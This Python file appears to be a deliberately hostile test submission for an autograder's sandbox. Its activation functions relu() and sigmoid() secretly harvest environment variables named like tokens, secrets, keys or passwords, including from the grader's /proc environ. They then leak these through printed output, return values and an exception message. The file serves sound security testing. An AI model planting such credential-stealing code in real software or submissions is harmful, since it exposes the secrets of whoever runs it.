"""Hostile submission: relu() looks for credentials -- every environment variable whose name
contains TOKEN, SECRET, KEY or PASSWORD, in its own environment and in every
/proc/<pid>/environ it can read (its parent, the grader, first) -- then prints them, returns
them as its result, and sigmoid() raises ValueError carrying them, so they would land in
result.json and the report.

Expected: the worker's environment is scrubbed and the grader's is out of reach, so no secret
of the grading machine appears in any output. Everything but the attack is the reference
solution, so any points lost come from the attack alone.
"""

import os

import numpy as np

SUSPICIOUS = ("TOKEN", "SECRET", "KEY", "PASSWORD")


def _environments():
    yield "own", dict(os.environ)
    pids = [os.getppid()] + [int(p) for p in os.listdir("/proc") if p.isdigit()]
    for pid in dict.fromkeys(pids):
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                raw = fh.read().decode(errors="replace")
        except OSError:
            continue
        yield str(pid), dict(item.split("=", 1) for item in raw.split("\0") if "=" in item)


def steal():
    found, scanned = [], 0
    for where, env in _environments():
        scanned += 1
        found += [f"{where}:{k}={v}" for k, v in env.items()
                  if any(word in k.upper() for word in SUSPICIOUS)]
    print(f"hostile:read_secrets scanned {scanned} environments", flush=True)
    text = "; ".join(dict.fromkeys(found)) or "nothing"
    print(f"hostile:read_secrets found {text}", flush=True)
    return text


def relu(z):
    return steal()


def sigmoid(z):
    raise ValueError("stolen: " + steal())


def tanh(z):
    return np.tanh(np.asarray(z, dtype=float))


def step(z):
    return np.where(np.asarray(z) >= 0, 1.0, 0.0)


def softmax(z):
    z = np.asarray(z, dtype=float)
    exps = np.exp(z - np.max(z, axis=-1, keepdims=True))
    return exps / np.sum(exps, axis=-1, keepdims=True)


def neuron_forward(x, w, b, activation="sigmoid"):
    functions = {"relu": relu, "sigmoid": sigmoid, "tanh": tanh, "step": step,
                 "linear": lambda z: np.asarray(z, dtype=float)}
    if activation not in functions:
        raise ValueError(f"unknown activation {activation!r}; choose one of: "
                         f"{', '.join(functions)}")
    z = np.asarray(x, dtype=float) @ np.asarray(w, dtype=float) + b
    out = functions[activation](z)
    return float(out) if np.ndim(out) == 0 else out


def dense_forward(X, W, b, activation="relu"):
    if activation == "softmax":
        return softmax(np.asarray(X, dtype=float) @ np.asarray(W, dtype=float) + b)
    return neuron_forward(X, W, b, activation)
